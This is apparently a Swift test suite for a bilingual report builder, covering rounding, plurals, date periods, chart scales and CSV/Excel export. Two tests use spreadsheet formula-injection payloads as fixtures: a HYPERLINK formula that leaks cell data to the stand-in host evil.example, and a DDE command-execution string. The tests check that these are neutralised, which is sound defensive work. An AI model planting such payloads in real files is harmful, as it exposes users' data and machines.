import Foundation
import EventLog
import Projections
import Testing

@testable import Reports

/// The words and numbers of reports, as the seed reports write them.
struct ReportFormattingTests {
    @Test func ratiosAreRoundedHalfUpUnlessTheCommitteeCutsThem() {
        let sv = ReportBuilder(language: .sv)
        #expect(sv.ratio(121, 144) == "121 av 144 (84\u{00A0}%)")
        // 119 of 199 is 59.80 %: 60 % rounded; the seed report cut it to 59 %, which --rounding truncate writes.
        #expect(sv.ratio(119, 199) == "119 av 199 (60\u{00A0}%)")
        #expect(ReportBuilder(language: .sv, rounding: .truncate).ratio(119, 199) == "119 av 199 (59\u{00A0}%)")
        // The issue's "29 av 121 (23 %)" where ik state says 23,9 %.
        #expect(sv.ratio(29, 121) == "29 av 121 (24\u{00A0}%)")
        #expect(ReportBuilder(language: .sv, decimals: 1).ratio(43, 73) == "43 av 73 (58,9\u{00A0}%)")
        #expect(ReportBuilder(language: .en, decimals: 1).ratio(43, 73) == "43 of 73 (58.9\u{00A0}%)")
    }

    @Test func aPartAndTheRestAddUpToAHundred() {
        let sv = ReportBuilder(language: .sv)
        // 7.5 % and 92.5 %: each rounded half up would make 101 %, each cut 99 %.
        #expect(sv.complementaryRatios(3, 40) == ("3 av 40 (8\u{00A0}%)", "37 av 40 (92\u{00A0}%)"))
        #expect(ReportBuilder(language: .sv, rounding: .truncate).complementaryRatios(3, 40)
            == ("3 av 40 (7\u{00A0}%)", "37 av 40 (92\u{00A0}%)"))
        for whole in Int64(1)...60 {
            for part in 0...whole {
                for decimals in 0...2 {
                    let pair = Percent.complementary(part, of: whole, decimals: decimals)!
                    let sum = (Double(pair.part)! + Double(pair.rest)!) * 100
                    #expect(sum.rounded() == 10_000, "\(part)/\(whole)")
                    #expect(pair.part == Percent.text(part, of: whole, decimals: decimals))
                }
            }
        }
    }

    @Test func percentagesRoundHalfUpOrCut() {
        #expect(Percent.text(29, of: 121, decimals: 1) == "24.0")
        #expect(Percent.text(29, of: 121, decimals: 0) == "24")
        #expect(Percent.text(29, of: 121, decimals: 0, rounding: .truncate) == "23")
        #expect(Percent.text(1, of: 8, decimals: 1) == "12.5")
        #expect(Percent.text(1, of: 16, decimals: 1) == "6.3")
        #expect(Percent.text(1, of: 16, decimals: 1, rounding: .truncate) == "6.2")
        #expect(Percent.text(1, of: 200, decimals: 0) == "1")
        #expect(Percent.text(0, of: 0) == nil)
        #expect(Percent.text(-1, of: 8, decimals: 1) == "-12.5")
        #expect(Percent.text(-1, of: 16, decimals: 1) == "-6.3")
        #expect(Percent.text(Int64.max, of: Int64.max, decimals: 2) == "100.00")
    }

    @Test func countsTakeTheNounInTheRightNumber() {
        #expect(Language.sv.count(1, "control") == "1 kontroll")
        #expect(Language.sv.count(2, "control") == "2 kontroller")
        #expect(Language.sv.count(1, "dueControlPoint") == "1 aktuellt")
        #expect(Language.sv.count(9, "dueControlPoint") == "9 aktuella")
        #expect(Language.en.count(1, "control") == "1 control")
        #expect(Language.en.count(0, "control") == "0 controls")
    }

    @Test func numbersGroupThousandsAsEachLanguageDoes() {
        #expect(Language.sv.number(1_234_567) == "1\u{00A0}234\u{00A0}567")
        #expect(Language.en.number(1_234_567) == "1,234,567")
        #expect(Language.sv.number(999) == "999")
        #expect(Language.sv.number(-1000) == "−1\u{00A0}000")
        #expect(Language.sv.percent(nil) == "–")
    }

    @Test func namedPeriodsAreWordsAndOtherSpansShowTheirDates() throws {
        let sv = ReportBuilder(language: .sv)
        let en = ReportBuilder(language: .en)
        let cases: [(String, String, String)] = [
            ("2024", "Helår 2024", "Full year 2024"), ("2015-H1", "Första halvåret 2015", "First half of 2015"),
            ("2024-T2", "Andra tertialet 2024", "Second tertial of 2024"),
            ("2024-Q4", "Fjärde kvartalet 2024", "Fourth quarter of 2024"), ("2024-05", "Maj 2024", "May 2024"),
        ]
        for (name, swedish, english) in cases {
            let period = try #require(Period(name))
            #expect(sv.periodText(period.dates) == swedish)
            #expect(en.periodText(period.dates) == english)
        }
        let span = try #require(CalendarDate("2024-03-15"))...(try #require(CalendarDate("2024-05-31")))
        #expect(sv.periodText(span) == "2024-03-15 – 2024-05-31")
    }

    @Test(arguments: [(1, 4), (4, 4), (5, 8), (37, 40), (121, 200), (144, 200), (1001, 2000), (12, 20)] as [(Int64, Int64)])
    func chartScalesEndOnFourRoundTicks(value: Int64, ceiling: Int64) {
        #expect(TrendChart.niceCeiling(value) == ceiling)
    }

    @Test func chartTextIsEscaped() {
        #expect(TrendChart.escape(#"<a & "b">"#) == "&lt;a &amp; &quot;b&quot;&gt;")
    }

    @Test func tablesAlignNumbersRightAndExportCSVWithQuoting() throws {
        let table = Tabular(keys: ["control", "examined"], language: .sv, numeric: [1],
                            rows: [["SN-LAK", "121"], ["SN-SEK, \"mobil\"", "9"]])
        #expect(table.text().split(separator: "\n").map(String.init) == [
            "Kontrollmoment   Granskade", "---------------  ---------", "SN-LAK                 121",
            "SN-SEK, \"mobil\"          9",
        ])
        let csv = String(decoding: try table.csv(), as: UTF8.self)
        #expect(csv.contains("\"SN-SEK, \"\"mobil\"\"\",9"))
        #expect(String(decoding: table.jsonLines(), as: UTF8.self).hasPrefix(#"{"control":"SN-LAK","examined":"121"}"#))
    }

    @Test func excelCSVHasABOMSemicolonsCRLFAndNumbersAsNumbers() throws {
        let sv = Tabular(keys: ["control", "examined", "rate", "unit"], language: .sv, numeric: [1, 2],
                         rows: [["SN-LAK", "1\u{00A0}234", "58,9\u{00A0}%", "–"], ["SN-SEK; mobil", "−3", "–", "Hemtjänst"]])
        let bytes = [UInt8](try sv.csv(excel: true))
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        let text = String(decoding: bytes.dropFirst(3), as: UTF8.self)
        #expect(text == "Kontrollmoment;Granskade;Andel avvikande (%);Enhet\r\nSN-LAK;1234;58,9;\r\n\"SN-SEK; mobil\";-3;;Hemtjänst\r\n")
        let en = Tabular(keys: ["examined", "rate"], language: .en, numeric: [0, 1], rows: [["1,234", "58.9\u{00A0}%"]])
        #expect(String(decoding: try en.csv(excel: true).dropFirst(3), as: UTF8.self).hasSuffix("\r\n1234;58,9\r\n"))
        // Without --excel: RFC 4180 as before.
        #expect(String(decoding: try sv.csv(), as: UTF8.self).hasPrefix("Kontrollmoment,Granskade,Andel avvikande,Enhet\n"))
    }

    @Test func csvTextCellsThatASpreadsheetWouldRunAsFormulasAreMadeTextButNumbersStayNumbers() throws {
        let formula = #"=HYPERLINK("http://evil.example/?x="&A1,"Klicka")"#
        let table = Tabular(keys: ["deviation", "count", "unit", "description"], language: .sv, numeric: [1],
                            rows: [["D-1", "-3", "+1+2", formula], ["@SUM(1)", "−2,5", "-2", "\tx"], ["D-3", "=1+1", "\rx", "ok"]])
        let plain = String(decoding: try table.csv(), as: UTF8.self).split(separator: "\n").map(String.init)
        #expect(plain[1] == #"D-1,-3,'+1+2,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")""#)
        #expect(plain[2] == "'@SUM(1),−2,5,'-2,'\tx".replacingOccurrences(of: "−2,5", with: "\"−2,5\""))
        #expect(plain[3].hasPrefix("D-3,'=1+1,"), "a numeric column's cell that is no number is text")
        let excel = String(decoding: try table.csv(excel: true).dropFirst(3), as: UTF8.self).components(separatedBy: "\r\n")
        #expect(excel[1] == #"D-1;-3;'+1+2;"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka"")""#)
        #expect(excel[2] == "'@SUM(1);-2,5;'-2;'\tx", "a negative figure stays a number for Excel")
        #expect(Tabular.isNumber("1\u{00A0}234") && Tabular.isNumber("58,9\u{00A0}%") && !Tabular.isNumber("-") && !Tabular.isNumber("-1+2"))
    }

    @Test func aFormulaAfterTheOtherSeparatorOrALineBreakIsMadeTextToo() throws {
        // Red team 5: a comma file split on `;` (a Swedish Excel's double-click) turned `x;=1+1` into the cell `=1+1`.
        #expect(Tabular.inert("Saknad attest;=1+1;x") == "Saknad attest;'=1+1;x")
        #expect(Tabular.inert("Leverantörer,=2+2,x") == "Leverantörer,'=2+2,x")
        #expect(Tabular.inert("a; \"@SUM(1)\"") == "a;' \"@SUM(1)\"")
        #expect(Tabular.inert("rad ett\n-cmd|' /C calc'!A0") == "rad ett\n'-cmd|' /C calc'!A0")
        #expect(Tabular.inert("Vanlig text, utan formel; 3 st") == "Vanlig text, utan formel; 3 st")
        let table = Tabular(keys: ["deviation", "description"], language: .sv, numeric: [],
                            rows: [["D-1", "Saknad attest;=1+1;x"], ["D-2", "Leverantörer,=2+2,x"]])
        for excel in [false, true] {
            var text = String(decoding: try table.csv(excel: excel), as: UTF8.self)
            if excel { text.removeFirst() }
            for separator in [",", ";"] {
                // Split as a spreadsheet using the other separator would, quotes in the middle of a cell as text.
                let cells = text.split(whereSeparator: \.isNewline).flatMap { $0.split(separator: Character(separator)) }
                #expect(!cells.contains { ["=", "+", "@"].contains($0.first.map(String.init) ?? "") },
                        "a formula cell when split on \(separator) (excel: \(excel)): \(cells)")
            }
        }
    }

    @Test func everyLabelHasBothLanguagesAndEnglishHasNoSwedishLetters() {
        for (key, words) in Labels.table {
            #expect(!words.sv.isEmpty && !words.en.isEmpty, "\(key)")
            #expect(!words.en.contains { "åäöÅÄÖ".contains($0) }, "\(key): \(words.en)")
        }
    }
}
